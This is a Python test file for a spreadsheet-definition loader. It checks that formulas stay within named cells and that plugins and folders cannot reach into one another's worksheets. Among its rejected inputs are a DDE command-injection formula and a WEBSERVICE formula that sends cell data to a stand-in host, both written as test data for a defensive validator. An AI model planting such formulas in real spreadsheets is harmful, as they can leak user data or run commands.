"""Formulas of definitions: plain functions over named cells, and nothing that reaches out of the sheet."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from tests.definitions.test_load import GOOD, write
from wombat.definitions.formulas import unfit
from wombat.definitions.load import DefinitionError, load_worksheet
from wombat.definitions.shelf import load_folders

if TYPE_CHECKING:
    from pathlib import Path

COUNT = 'id = "count"\ntype = "integer"\nowner = "program"\nlabel = "Count"\nformula = """FORMULA"""\n'
SUMMARY = f'\n[[part]]\nid = "summary"\nkind = "form"\n\n[[part.field]]\n{COUNT}'


def counting(formula: str, sheet: str = "pets") -> str:
    return GOOD.replace('id = "pets"', f'id = "{sheet}"') + SUMMARY.replace("FORMULA", formula)


@pytest.mark.parametrize(
    "formula",
    [
        "COUNTA({pets.list.name})",
        "={count}+1",
        'IF({a}="","",{b}/{c}%)',
        "IF({a},,2)",
        "-{a}^2",
        "ROUND(SUM(1,2.5),0)",
        'COUNTIFS({pets.list.size},{=pets.list.size.big})&" (big) 100% =A1"',
        "(" * 60 + "1" + ")" * 60,
    ],
)
def test_a_formula_over_named_cells_is_fit(formula: str) -> None:
    assert not unfit(formula)


@pytest.mark.parametrize(
    ("formula", "piece"),
    [
        ("A1", "A1"),
        ("SUM($A$1)", "$A$1"),
        ("'Who knows whom'!A1", "'Who"),
        ("[1]Sheet1!A1", "[1]Sheet1!A1"),
        ("[https://bad.example/x.xlsx]S!A1", "[https"),
        ('cmd|"/c calc"!A0', "cmd|"),
        ('WEBSERVICE("https://bad.example/?q="&{a})', "WEBSERVICE("),
        ('HYPERLINK("https://bad.example","Click")', "HYPERLINK("),
        ('INDIRECT("Contacts!A"&1)', "INDIRECT("),
        ("OFFSET({a},1,1)", "OFFSET("),
        ('RTD("x",,"y")', "RTD("),
        ("CALL(1)", "CALL("),
        ("_xlfn.LET(1)", "_xlfn.LET"),
        ("{a}:{b}", ":"),
        ("{a} {b}", "{b}"),
        ("People[Name]", "People[Name]"),
        ("@SUM(1)", "@"),
        ("my_name", "my_name"),
        ("{1,2}", "{"),
        ("SUM(1", "SUM(1"),
        ("1)", ")"),
        ("(1,2)", ","),
        ("{a}+", "{a}+"),
        ("1*/2", "/"),
        ("(" * 61 + "1" + ")" * 61, "("),
        ("1+" * 3000 + "1", "1+1+"),
    ],
)
def test_whatever_reaches_out_or_makes_no_formula_is_named(formula: str, piece: str) -> None:
    assert unfit(formula).startswith(piece)


def test_an_unfit_formula_is_refused_with_its_file_and_field(tmp_path: Path) -> None:
    path = write(tmp_path, counting('WEBSERVICE("https://bad.example")'))
    with pytest.raises(
        DefinitionError, match=r"pets\.toml: “part\[2\]\.field\[1\]\.formula” cannot have “WEBSERVICE\("
    ):
        load_worksheet(path)


@pytest.mark.parametrize(
    "name", ["{pets.list.weight}", "{pets.lost.name}", "{weight}", "{=size.big}", "{=pets.list.size.small}"]
)
def test_a_name_that_leads_nowhere_is_told(tmp_path: Path, name: str) -> None:
    write(tmp_path, counting(f"COUNTA({name})"))
    with pytest.raises(DefinitionError, match=r"pets\.toml: the formula of “summary\.count” names") as caught:
        load_folders([(tmp_path, "plug")])
    assert name in str(caught.value)


def test_a_plugin_may_name_a_worksheet_that_is_not_installed(tmp_path: Path) -> None:
    write(tmp_path, counting("COUNTA({cats.list.name})+COUNTIF({cats.list.size},{=cats.list.size.big})"))
    assert "pets" in load_folders([(tmp_path, "plug")])[0]


class TestFolderWithoutPlugin:
    """A folder of plain files reaches no further than itself."""

    def load(self, tmp_path: Path, **files: str) -> tuple[set[str], list[str]]:
        theirs, mine = tmp_path / "plugin", tmp_path / "folder"
        theirs.mkdir()
        mine.mkdir()
        write(theirs, GOOD.replace('id = "pets"', 'id = "cats"'), "cats.toml")
        write(theirs, '[[group]]\nid = "extra"\norder = 1\ntitle = "Extra"\npurpose = "Pets"\n', "groups.toml")
        for name, text in files.items():
            write(mine, text, f"{name}.toml")
        told: list[str] = []
        shelf, _ = load_folders([(theirs, "plug"), (mine, "folder/")], lambda each: told.append(str(each)), [mine])
        return set(shelf), told

    def test_it_may_name_its_own_worksheets(self, tmp_path: Path) -> None:
        second = counting("COUNTA({pets.list.name})", "dogs")
        shelf, told = self.load(tmp_path, pets=GOOD, dogs=second)
        assert shelf == {"cats", "pets", "dogs"}
        assert not told

    def test_a_formula_that_names_anothers_cells_is_refused(self, tmp_path: Path) -> None:
        shelf, (said,) = self.load(tmp_path, pets=counting("COUNTA({cats.list.name})"))
        assert shelf == {"cats"}
        assert "pets.toml" in said
        assert "“summary.count” names {cats.list.name}" in said

    def test_so_is_one_that_names_cells_nobody_has(self, tmp_path: Path) -> None:
        shelf, (said,) = self.load(tmp_path, pets=counting("COUNTA({horses.list.name})"))
        assert shelf == {"cats"}
        assert "{horses.list.name}" in said

    def test_it_adds_nothing_to_anothers_worksheet(self, tmp_path: Path) -> None:
        shelf, (said,) = self.load(tmp_path, more='extends = "cats"\ngroup = "extra"\n')
        assert shelf == {"cats"}
        assert "more.toml: “extends”" in said

    def test_it_cannot_take_anothers_worksheet_or_group(self, tmp_path: Path) -> None:
        group = '[[group]]\nid = "extra"\norder = 1\nalways_on = true\ntitle = "Mine"\npurpose = "x"\n'
        _, told = self.load(tmp_path, cats=GOOD.replace('id = "pets"', 'id = "cats"'), groups=group)
        assert len(told) == 2
        assert "by plug and by folder/" in told[0]
        assert "“extra”" in told[1]


def test_a_worksheet_of_a_group_that_is_not_there_is_told_with_those_there_are(tmp_path: Path) -> None:
    write(tmp_path, GOOD)
    write(tmp_path, '[[group]]\nid = "records"\norder = 1\ntitle = "R"\npurpose = "x"\n', "groups.toml")
    with pytest.raises(DefinitionError, match=r"pets\.toml: “group” is “extra”; it can be one of records"):
        load_folders([(tmp_path, "plug")])


@pytest.mark.parametrize("more", ["spare = 1000000000", "space = -1", "spare = true", "target = 99999999999"])
def test_a_sheet_of_a_senseless_size_is_refused(tmp_path: Path, more: str) -> None:
    with pytest.raises(DefinitionError, match=rf"part\[1\]\.{more.split(maxsplit=1)[0]}"):
        load_worksheet(write(tmp_path, GOOD.replace('kind = "table"', f'kind = "table"\n{more}')))


@pytest.mark.parametrize("text", ["a = " + "[" * 100_000, "x" * (2**20 + 1), 'a = "\ud800"', "field = [1]"])
def test_a_file_that_is_no_definition_is_refused_with_a_sentence(tmp_path: Path, text: str) -> None:
    path = tmp_path / "odd.toml"
    path.write_bytes(text.encode("utf-8", "surrogatepass"))
    with pytest.raises(DefinitionError, match=r"odd\.toml"):
        load_worksheet(path)
